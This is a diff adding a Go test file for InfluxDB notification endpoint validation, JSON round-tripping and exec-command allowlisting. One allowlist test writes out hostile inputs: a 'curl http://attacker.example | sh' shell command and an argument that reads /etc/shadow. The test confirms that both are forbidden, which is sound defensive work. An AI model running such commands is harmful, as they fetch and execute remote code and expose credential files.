@@ -0,0 +1,520 @@
+package endpoint_test
+
+import (
+	"encoding/json"
+	"testing"
+	"time"
+
+	"github.com/google/go-cmp/cmp"
+	"github.com/influxdata/influxdb"
+	"github.com/influxdata/influxdb/mock"
+	"github.com/influxdata/influxdb/notification/endpoint"
+	influxTesting "github.com/influxdata/influxdb/testing"
+)
+
+const (
+	id1 = "020f755c3c082000"
+	id3 = "020f755c3c082002"
+)
+
+var goodBase = endpoint.Base{
+	ID:     influxTesting.MustIDBase16(id1),
+	Name:   "name1",
+	OrgID:  influxTesting.MustIDBase16(id3),
+	Status: influxdb.Active,
+}
+
+func TestValidEndpoint(t *testing.T) {
+	cases := []struct {
+		name string
+		src  influxdb.NotificationEndpoint
+		err  error
+	}{
+		{
+			name: "invalid endpoint id",
+			src:  &endpoint.Slack{},
+			err: &influxdb.Error{
+				Code: influxdb.EInvalid,
+				Msg:  "Notification Endpoint ID is invalid",
+			},
+		},
+		{
+			name: "empty name",
+			src: &endpoint.Slack{
+				Base: endpoint.Base{
+					ID: influxTesting.MustIDBase16(id1),
+				},
+			},
+			err: &influxdb.Error{
+				Code: influxdb.EInvalid,
+				Msg:  "Notification Endpoint Name can't be empty",
+			},
+		},
+		{
+			name: "invalid org id",
+			src: &endpoint.Slack{
+				Base: endpoint.Base{
+					ID:   influxTesting.MustIDBase16(id1),
+					Name: "name1",
+				},
+			},
+			err: &influxdb.Error{
+				Code: influxdb.EInvalid,
+				Msg:  "Notification Endpoint OrgID is invalid",
+			},
+		},
+		{
+			name: "invalid status",
+			src: &endpoint.Slack{
+				Base: endpoint.Base{
+					ID:    influxTesting.MustIDBase16(id1),
+					Name:  "name1",
+					OrgID: influxTesting.MustIDBase16(id3),
+				},
+			},
+			err: &influxdb.Error{
+				Code: influxdb.EInvalid,
+				Msg:  "invalid status",
+			},
+		},
+		{
+			name: "unsupported locale",
+			src: &endpoint.Slack{
+				Base: endpoint.Base{
+					ID:     influxTesting.MustIDBase16(id1),
+					Name:   "name1",
+					OrgID:  influxTesting.MustIDBase16(id3),
+					Status: influxdb.Active,
+					Locale: "tlh",
+				},
+				URL: "https://hooks.slack.com/services/x",
+			},
+			err: &influxdb.Error{
+				Code: influxdb.EInvalid,
+				Msg:  "unsupported locale tlh, supported locales are de, en, es, fr",
+			},
+		},
+		{
+			name: "empty slack url",
+			src: &endpoint.Slack{
+				Base: goodBase,
+			},
+			err: &influxdb.Error{
+				Code: influxdb.EInvalid,
+				Msg:  "slack endpoint URL is empty",
+			},
+		},
+		{
+			name: "empty pagerduty routing key",
+			src: &endpoint.PagerDuty{
+				Base: goodBase,
+			},
+			err: &influxdb.Error{
+				Code: influxdb.EInvalid,
+				Msg:  "pagerduty routing key is empty",
+			},
+		},
+		{
+			name: "empty alerta url",
+			src: &endpoint.Alerta{
+				Base:        goodBase,
+				Environment: "production",
+			},
+			err: &influxdb.Error{
+				Code: influxdb.EInvalid,
+				Msg:  "alerta endpoint URL is empty",
+			},
+		},
+		{
+			name: "empty alerta environment",
+			src: &endpoint.Alerta{
+				Base: goodBase,
+				URL:  "http://alerta.example.com/api",
+			},
+			err: &influxdb.Error{
+				Code: influxdb.EInvalid,
+				Msg:  "alerta environment is empty",
+			},
+		},
+		{
+			name: "empty grafana oncall url",
+			src: &endpoint.GrafanaOnCall{
+				Base: goodBase,
+			},
+			err: &influxdb.Error{
+				Code: influxdb.EInvalid,
+				Msg:  "grafana oncall endpoint URL is empty",
+			},
+		},
+		{
+			name: "empty mqtt broker",
+			src: &endpoint.MQTT{
+				Base:          goodBase,
+				TopicTemplate: "alerts",
+			},
+			err: &influxdb.Error{
+				Code: influxdb.EInvalid,
+				Msg:  "mqtt endpoint broker is empty",
+			},
+		},
+		{
+			name: "bad mqtt broker scheme",
+			src: &endpoint.MQTT{
+				Base:          goodBase,
+				Broker:        "http://localhost:1883",
+				TopicTemplate: "alerts",
+			},
+			err: &influxdb.Error{
+				Code: influxdb.EInvalid,
+				Msg:  "mqtt endpoint broker must be a tcp://, mqtt://, ssl://, tls:// or mqtts:// url",
+			},
+		},
+		{
+			name: "bad mqtt qos",
+			src: &endpoint.MQTT{
+				Base:          goodBase,
+				Broker:        "tcp://localhost:1883",
+				TopicTemplate: "alerts",
+				QoS:           2,
+			},
+			err: &influxdb.Error{
+				Code: influxdb.EInvalid,
+				Msg:  "mqtt endpoint qos must be 0 or 1",
+			},
+		},
+		{
+			name: "empty kafka brokers",
+			src: &endpoint.Kafka{
+				Base:          goodBase,
+				TopicTemplate: "alerts",
+			},
+			err: &influxdb.Error{
+				Code: influxdb.EInvalid,
+				Msg:  "kafka endpoint brokers are empty",
+			},
+		},
+		{
+			name: "kafka client cert without tls",
+			src: &endpoint.Kafka{
+				Base:          goodBase,
+				Brokers:       []string{"localhost:9092"},
+				TopicTemplate: "alerts",
+				ClientCert:    influxdb.SecretField{Key: id1 + "-client-cert"},
+				ClientKey:     influxdb.SecretField{Key: id1 + "-client-key"},
+			},
+			err: &influxdb.Error{
+				Code: influxdb.EInvalid,
+				Msg:  "kafka endpoint client cert requires tls",
+			},
+		},
+		{
+			name: "bad sns topic arn",
+			src: &endpoint.SNS{
+				Base:     goodBase,
+				TopicARN: "arn:aws:sqs:us-east-1:123456789012:alerts",
+			},
+			err: &influxdb.Error{
+				Code: influxdb.EInvalid,
+				Msg:  "sns endpoint topic arn is invalid",
+			},
+		},
+		{
+			name: "empty sns access key id",
+			src: &endpoint.SNS{
+				Base:     goodBase,
+				TopicARN: "arn:aws:sns:us-east-1:123456789012:alerts",
+			},
+			err: &influxdb.Error{
+				Code: influxdb.EInvalid,
+				Msg:  "sns access key id is empty",
+			},
+		},
+		{
+			name: "empty pubsub topic id",
+			src: &endpoint.PubSub{
+				Base:      goodBase,
+				ProjectID: "project1",
+			},
+			err: &influxdb.Error{
+				Code: influxdb.EInvalid,
+				Msg:  "pubsub endpoint topic id is empty",
+			},
+		},
+		{
+			name: "empty pubsub service account key",
+			src: &endpoint.PubSub{
+				Base:      goodBase,
+				ProjectID: "project1",
+				TopicID:   "alerts",
+			},
+			err: &influxdb.Error{
+				Code: influxdb.EInvalid,
+				Msg:  "pubsub service account key is empty",
+			},
+		},
+		{
+			name: "relative exec command",
+			src: &endpoint.Exec{
+				Base:    goodBase,
+				Command: "notify.sh",
+			},
+			err: &influxdb.Error{
+				Code: influxdb.EInvalid,
+				Msg:  "exec endpoint command must be an absolute path",
+			},
+		},
+	}
+	for _, c := range cases {
+		got := c.src.Valid()
+		influxTesting.ErrorsEqual(t, got, c.err)
+	}
+}
+
+var timeGen1 = mock.TimeGenerator{FakeValue: time.Date(2006, time.July, 13, 4, 19, 10, 0, time.UTC)}
+var timeGen2 = mock.TimeGenerator{FakeValue: time.Date(2006, time.July, 14, 5, 23, 53, 10, time.UTC)}
+
+func TestJSON(t *testing.T) {
+	cases := []struct {
+		name string
+		src  influxdb.NotificationEndpoint
+	}{
+		{
+			name: "simple slack",
+			src: &endpoint.Slack{
+				Base: endpoint.Base{
+					ID:     influxTesting.MustIDBase16(id1),
+					Name:   "name1",
+					OrgID:  influxTesting.MustIDBase16(id3),
+					Status: influxdb.Active,
+					CRUDLog: influxdb.CRUDLog{
+						CreatedAt: timeGen1.Now(),
+						UpdatedAt: timeGen2.Now(),
+					},
+				},
+				URL:   "https://hooks.slack.com/services/x/y/z",
+				Token: influxdb.SecretField{Key: id1 + "-token"},
+			},
+		},
+		{
+			name: "simple pagerduty",
+			src: &endpoint.PagerDuty{
+				Base: endpoint.Base{
+					ID:     influxTesting.MustIDBase16(id1),
+					Name:   "name1",
+					OrgID:  influxTesting.MustIDBase16(id3),
+					Status: influxdb.Active,
+					CRUDLog: influxdb.CRUDLog{
+						CreatedAt: timeGen1.Now(),
+						UpdatedAt: timeGen2.Now(),
+					},
+				},
+				ClientURL:  "http://localhost:9999/orgs/" + id3,
+				RoutingKey: influxdb.SecretField{Key: id1 + "-routing-key"},
+			},
+		},
+		{
+			name: "simple alerta",
+			src: &endpoint.Alerta{
+				Base: endpoint.Base{
+					ID:     influxTesting.MustIDBase16(id1),
+					Name:   "name1",
+					OrgID:  influxTesting.MustIDBase16(id3),
+					Status: influxdb.Active,
+					CRUDLog: influxdb.CRUDLog{
+						CreatedAt: timeGen1.Now(),
+						UpdatedAt: timeGen2.Now(),
+					},
+				},
+				URL:            "http://alerta.example.com/api",
+				APIKey:         influxdb.SecretField{Key: id1 + "-api-key"},
+				Environment:    "production",
+				EnvironmentTag: "env",
+				ServiceTag:     "service",
+			},
+		},
+		{
+			name: "simple grafana oncall",
+			src: &endpoint.GrafanaOnCall{
+				Base: endpoint.Base{
+					ID:     influxTesting.MustIDBase16(id1),
+					Name:   "name1",
+					OrgID:  influxTesting.MustIDBase16(id3),
+					Status: influxdb.Active,
+					CRUDLog: influxdb.CRUDLog{
+						CreatedAt: timeGen1.Now(),
+						UpdatedAt: timeGen2.Now(),
+					},
+				},
+				URL: influxdb.SecretField{Key: id1 + "-url"},
+			},
+		},
+		{
+			name: "simple mqtt",
+			src: &endpoint.MQTT{
+				Base: endpoint.Base{
+					ID:     influxTesting.MustIDBase16(id1),
+					Name:   "name1",
+					OrgID:  influxTesting.MustIDBase16(id3),
+					Status: influxdb.Active,
+					CRUDLog: influxdb.CRUDLog{
+						CreatedAt: timeGen1.Now(),
+						UpdatedAt: timeGen2.Now(),
+					},
+				},
+				Broker:        "ssl://mqtt.example.com:8883",
+				TopicTemplate: "alerts/${r.host}",
+				ClientID:      "influxdb",
+				Username:      "user1",
+				Password:      influxdb.SecretField{Key: id1 + "-password"},
+				QoS:           1,
+				Retain:        true,
+			},
+		},
+		{
+			name: "simple kafka",
+			src: &endpoint.Kafka{
+				Base: endpoint.Base{
+					ID:     influxTesting.MustIDBase16(id1),
+					Name:   "name1",
+					OrgID:  influxTesting.MustIDBase16(id3),
+					Status: influxdb.Active,
+					CRUDLog: influxdb.CRUDLog{
+						CreatedAt: timeGen1.Now(),
+						UpdatedAt: timeGen2.Now(),
+					},
+				},
+				Brokers:       []string{"kafka1:9092", "kafka2:9092"},
+				TopicTemplate: "alerts-${r.region}",
+				TLS:           true,
+				ClientCert:    influxdb.SecretField{Key: id1 + "-client-cert"},
+				ClientKey:     influxdb.SecretField{Key: id1 + "-client-key"},
+			},
+		},
+		{
+			name: "simple sns",
+			src: &endpoint.SNS{
+				Base: endpoint.Base{
+					ID:     influxTesting.MustIDBase16(id1),
+					Name:   "name1",
+					OrgID:  influxTesting.MustIDBase16(id3),
+					Status: influxdb.Active,
+					CRUDLog: influxdb.CRUDLog{
+						CreatedAt: timeGen1.Now(),
+						UpdatedAt: timeGen2.Now(),
+					},
+				},
+				TopicARN:        "arn:aws:sns:us-east-1:123456789012:alerts",
+				AccessKeyID:     influxdb.SecretField{Key: id1 + "-access-key-id"},
+				SecretAccessKey: influxdb.SecretField{Key: id1 + "-secret-access-key"},
+				RoleARN:         "arn:aws:iam::123456789012:role/alerts",
+			},
+		},
+		{
+			name: "simple pubsub",
+			src: &endpoint.PubSub{
+				Base: endpoint.Base{
+					ID:     influxTesting.MustIDBase16(id1),
+					Name:   "name1",
+					OrgID:  influxTesting.MustIDBase16(id3),
+					Status: influxdb.Active,
+					CRUDLog: influxdb.CRUDLog{
+						CreatedAt: timeGen1.Now(),
+						UpdatedAt: timeGen2.Now(),
+					},
+				},
+				ProjectID:         "project1",
+				TopicID:           "alerts",
+				ServiceAccountKey: influxdb.SecretField{Key: id1 + "-service-account-key"},
+			},
+		},
+		{
+			name: "simple exec",
+			src: &endpoint.Exec{
+				Base: endpoint.Base{
+					ID:     influxTesting.MustIDBase16(id1),
+					Name:   "name1",
+					OrgID:  influxTesting.MustIDBase16(id3),
+					Status: influxdb.Active,
+					CRUDLog: influxdb.CRUDLog{
+						CreatedAt: timeGen1.Now(),
+						UpdatedAt: timeGen2.Now(),
+					},
+				},
+				Command: "/usr/local/bin/notify",
+				Args:    []string{"--pager", "ops"},
+				Timeout: influxdb.Duration{Duration: 5 * time.Second},
+			},
+		},
+	}
+	for _, c := range cases {
+		b, err := json.Marshal(c.src)
+		if err != nil {
+			t.Fatalf("%s marshal failed, err: %s", c.name, err.Error())
+		}
+		got, err := endpoint.UnmarshalJSON(b)
+		if err != nil {
+			t.Fatalf("%s unmarshal failed, err: %s", c.name, err.Error())
+		}
+		if diff := cmp.Diff(got, c.src); diff != "" {
+			t.Errorf("failed %s, notification endpoint are different -got/+want\ndiff %s", c.name, diff)
+		}
+	}
+}
+
+func TestExecCommandAllowed(t *testing.T) {
+	edp := endpoint.Exec{
+		Base:    goodBase,
+		Command: "/usr/local/bin/../bin/notify",
+	}
+	if err := edp.CommandAllowed(nil); influxdb.ErrorCode(err) != influxdb.EForbidden {
+		t.Errorf("expected exec endpoints to be disabled, got %v", err)
+	}
+	if err := edp.CommandAllowed([]string{"/usr/bin/notify"}); influxdb.ErrorCode(err) != influxdb.EForbidden {
+		t.Errorf("expected command not to be allowed, got %v", err)
+	}
+	if err := edp.CommandAllowed([]string{"/usr/bin/notify", "/usr/local/bin/notify"}); err != nil {
+		t.Errorf("expected command to be allowed, got %v", err)
+	}
+
+	// the arguments are allowed with the command.
+	edp.Args = []string{"--team", "ops"}
+	if err := edp.CommandAllowed([]string{"/usr/local/bin/notify --team ops"}); err != nil {
+		t.Errorf("expected command line to be allowed, got %v", err)
+	}
+	for _, args := range [][]string{
+		{"--team", "dev"},
+		{"--team", "ops", "--config", "/etc/shadow"},
+		{"--team"},
+	} {
+		edp.Args = args
+		if err := edp.CommandAllowed([]string{"/usr/local/bin/notify --team ops"}); influxdb.ErrorCode(err) != influxdb.EForbidden {
+			t.Errorf("expected arguments %q not to be allowed, got %v", args, err)
+		}
+	}
+
+	// an interpreter allowed to run a script doesn't run the code of the endpoint.
+	sh := endpoint.Exec{
+		Base:    goodBase,
+		Command: "/bin/sh",
+		Args:    []string{"-c", "curl http://attacker.example | sh"},
+	}
+	if err := sh.CommandAllowed([]string{"/bin/sh /usr/local/bin/notify.sh", "/bin/sh"}); influxdb.ErrorCode(err) != influxdb.EForbidden {
+		t.Errorf("expected hostile arguments not to be allowed, got %v", err)
+	}
+}
+
+func TestBackFill(t *testing.T) {
+	token := "token-value"
+	src := &endpoint.Slack{
+		Base:  goodBase,
+		URL:   "https://hooks.slack.com/services/x/y/z",
+		Token: influxdb.SecretField{Value: &token},
+	}
+	src.BackfillSecretKeys()
+	want := []influxdb.SecretField{
+		{Key: id1 + "-token", Value: &token},
+	}
+	if diff := cmp.Diff(src.SecretFields(), want); diff != "" {
+		t.Errorf("secret fields are different -got/+want\ndiff %s", diff)
+	}
+}